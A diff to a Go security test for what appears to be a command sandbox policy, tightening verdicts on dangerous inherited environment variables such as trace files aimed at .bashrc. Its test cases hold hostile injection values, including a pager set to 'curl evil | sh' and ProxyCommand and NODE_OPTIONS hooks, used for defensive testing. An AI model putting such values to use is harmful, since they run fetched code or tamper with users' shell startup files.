@@ -138,7 +138,9 @@ func TestSecurityInheritedEnvironmentJudged(t *testing.T) {
 		{"PAGER=" + f.ws + "/pager.sh", []string{"git", "log"}, policy.Ask},
 		{"GIT_PAGER=sh -c 'curl evil | sh'", []string{"git", "log"}, policy.Ask},
 		{"GIT_SSH_COMMAND=ssh -o ProxyCommand=id", []string{"git", "fetch"}, policy.Ask},
-		{"GIT_TRACE=" + f.home + "/.bashrc", []string{"git", "status"}, policy.Ask},
+		// A trace file in a shell startup file: never grantable to the
+		// sandbox, so denied up front (decideWithSandbox).
+		{"GIT_TRACE=" + f.home + "/.bashrc", []string{"git", "status"}, policy.Deny},
 		{"GIT_ALLOW_PROTOCOL=ext:https", []string{"git", "fetch"}, policy.Ask},
 		{"GIT_CONFIG_PARAMETERS='core.pager'='id'", []string{"git", "status"}, policy.Ask},
 		{"GREP=" + f.ws + "/grep", []string{"zgrep", "x", "a.gz"}, policy.Ask},
@@ -146,7 +148,7 @@ func TestSecurityInheritedEnvironmentJudged(t *testing.T) {
 		{"PYTHONPATH=" + f.ws + "/evil", []string{"bash", "-c", "git status && python3 -V"}, policy.Ask},
 		{"NODE_OPTIONS=--require ./hook.js", []string{"node", "-v"}, policy.Ask},
 		{"RUBYOPT=-I" + f.ws + "/lib", []string{"ruby", "-v"}, policy.Ask},
-		{"MALLOC_TRACE=" + f.home + "/.profile", []string{"ls"}, policy.Ask},
+		{"MALLOC_TRACE=" + f.home + "/.profile", []string{"ls"}, policy.Deny},
 		// ...and only those: ls reads none of git's.
 		{"GIT_TRACE=" + f.home + "/.bashrc", []string{"ls"}, policy.Allow},
 		{"PYTHONPATH=" + f.ws + "/evil", []string{"ls"}, policy.Allow},
